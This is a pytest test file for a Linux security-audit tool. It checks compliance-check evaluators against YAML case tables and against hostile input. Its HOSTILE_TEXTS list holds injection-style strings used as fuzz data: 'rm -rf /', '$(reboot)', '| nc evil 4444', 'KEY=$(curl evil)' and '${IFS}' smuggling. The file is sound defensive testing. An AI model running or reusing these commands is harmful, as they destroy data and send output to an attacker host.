"""Every evaluator against its table of cases (tests/files/checks/<check_id>.yaml), and against
hostile facts that must never crash it or make it pass.

A case file is a list of cases::

    - name: default 99999 fails
      level: 2                      # optional: the check's first level
      base: [host, pam_debian]      # optional: named section sets from _bases.yaml
      facts: {"file:/etc/login.defs": "PASS_MAX_DAYS 99999\\n"}
      expect: fail                  # pass | fail | na | missing (FactMissing raised)
      seen: "99999"                 # optional: an evidence line saw exactly this

A section's value is its text (status 0), or ``{rc: N, text: ...}`` / ``{rc: N, b64: ...}``
for a status or raw bytes (invalid UTF-8), or null to drop a section a base brought in.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from secops.audit.checks import EVALUATORS, Outcome
from secops.audit.facts import FactMissing, Facts, Section
from secops.catalog.model import load_catalog
from tests.conftest import FILES

CASES = FILES / "checks"
CATALOG = load_catalog()
BASES: dict[str, dict[str, Any]] = yaml.safe_load((CASES / "_bases.yaml").read_text())


def case_files() -> list[Path]:
    return sorted(p for p in CASES.glob("*.yaml") if not p.name.startswith("_"))


def build_facts(case: dict[str, Any]) -> Facts:
    """Facts from a case: its bases in order, then its own sections."""
    texts: dict[str, Any] = {}
    for name in case.get("base", []):
        texts.update(BASES[name])
    texts.update(case.get("facts") or {})
    sections = {}
    for name, value in texts.items():
        if value is None:
            continue
        if isinstance(value, str):
            rc, data = 0, value.encode()
        elif "b64" in value:
            rc, data = value.get("rc", 0), base64.b64decode(value["b64"])
        else:
            rc, data = value.get("rc", 0), str(value.get("text", "")).encode()
        sections[name] = Section(name, rc, data)
    return Facts(sections)


def cases() -> Iterator[Any]:
    for path in case_files():
        for case in yaml.safe_load(path.read_text()):
            slug = re.sub(r"[^a-z0-9]+", "-", case["name"].lower()).strip("-")
            yield pytest.param(path.stem, case, id=f"{path.stem}-{slug}")


def render(outcome: Outcome) -> str:
    lines = [f"{outcome.status}: {outcome.message}"]
    lines += [
        f"  seen {e.seen!r} at {e.source!r}, expected {e.expected!r}" for e in outcome.evidence
    ]
    return "\n".join(lines)


@pytest.mark.parametrize(("check_id", "case"), list(cases()))
def test_check(check_id: str, case: dict[str, Any]) -> None:
    check = CATALOG.checks[check_id]
    level = case.get("level", check.levels[0])
    assert level in check.levels, f"{check_id} does not run at level {level}"
    facts = build_facts(case)
    evaluate = EVALUATORS[check_id]
    if case["expect"] == "missing":
        with pytest.raises(FactMissing):
            evaluate(facts, check.params_for(level))
        return
    outcome = evaluate(facts, check.params_for(level))
    assert outcome.status == case["expect"], render(outcome)
    if outcome.status != "na":
        assert outcome.evidence, "a judged check shows what it saw"
    for found in outcome.evidence:
        assert found.seen and found.source and found.expected, render(outcome)
    if outcome.status == "fail":
        assert outcome.message, "a failure says why"
    if "seen" in case:
        assert any(e.seen == case["seen"] for e in outcome.evidence), render(outcome)


# -- hostile facts ---------------------------------------------------------------------------

# Checks that pass when something is absent: garbage in their sections reads as "nothing there".
PASS_ON_ABSENCE = {
    "telnet_server_absent",
    "rsh_server_absent",
    "ftp_server_absent",
    "tftp_server_absent",
    "nis_server_absent",
    "xserver_absent",
    "unneeded_services_disabled",
    "high_risk_ports_closed",
    "login_banner",  # a banner's wording is not judged, only what it must not reveal
}
# Checks whose documented default is compliant: garbage sets nothing, so the default applies.
PASS_BY_DEFAULT = {
    "pass_warn_age",  # shadow-utils: 7
    "auditd_space_left_action",  # auditd: SYSLOG
    "auditd_admin_space_left_action",  # auditd: SUSPEND
    "sshd_protocol_2",  # OpenSSH >= 7.4 has only protocol 2
    "sysctl_randomize_va_space",  # kernel: 2 (judged as configured on lab hosts)
    "sysctl_suid_dumpable",  # kernel: 0 (judged as configured on lab hosts)
}

HOSTILE_TEXTS = [
    "; rm -rf / $(reboot) `id` | nc evil 4444 & > /etc/passwd\n"
    "KEY=$(curl evil) ${IFS}x\n"
    "PASS_MAX_DAYS 90; rm -rf /\n"
    "\"unterminated 'quote\n",
    "9" * 5000 + "\n" + "-" + "9" * 40 + "\n" + "1e309 NaN inf 0x7fffffff\n",
    "\x00\x1b[2J\x07" + "A" * 20_000 + "\n:::::::::\n||||||\n= = =\n",
]
HOSTILE_BYTES = [b"\xff\xfe\xfd\xc3\x28\xa0\xa1\xe2\x28\xa1 PASS_MAX_DAYS 9\xff0\n\x80\x81"]


def section_names() -> set[str]:
    names = {name for base in BASES.values() for name in base}
    for path in case_files():
        for case in yaml.safe_load(path.read_text()):
            names |= set(case.get("facts") or {})
    return names


def hostile(data: bytes, lab: bool) -> Facts:
    sections = {n: Section(n, 0, data) for n in section_names()}
    sections["meta:id"] = Section("meta:id", 0, b"0")
    if not lab:
        sections.pop("file:/etc/govsec-lab")
    return Facts(sections)


HOSTILE = [
    pytest.param(hostile(data, lab), id=f"{i}-{'lab' if lab else 'host'}")
    for i, data in enumerate([t.encode() for t in HOSTILE_TEXTS] + HOSTILE_BYTES)
    for lab in (False, True)
]


@pytest.mark.parametrize("facts", HOSTILE)
@pytest.mark.parametrize("check_id", sorted(EVALUATORS))
def test_hostile_facts_neither_crash_nor_pass(check_id: str, facts: Facts) -> None:
    check = CATALOG.checks[check_id]
    for level in check.levels:
        try:
            outcome = EVALUATORS[check_id](facts, check.params_for(level))
        except FactMissing:
            continue  # recorded as an error: fine for garbage
        assert outcome.status in ("pass", "fail", "na")
        if check_id not in PASS_ON_ABSENCE | PASS_BY_DEFAULT:
            assert outcome.status != "pass", render(outcome)
        for found in outcome.evidence:
            assert len(found.seen) <= 160 and found.seen.isprintable(), found.seen[:80]


def test_a_view_is_parsed_once_and_no_check_can_alter_it_for_the_next() -> None:
    facts = Facts.from_texts({"cmd:sysctl": "kernel.a = 1\n", "file:/etc/passwd": "x\n"})
    seen = facts.sysctl()
    seen.clear()  # a careless check
    assert facts.sysctl()["kernel.a"].value == "1"
    assert facts.sysctl() is not facts.sysctl()  # copies of the one parsed view
    for _ in range(2):  # a missing fact is reported every time, never remembered as a value
        with pytest.raises(FactMissing, match="not collected"):
            facts.packages()
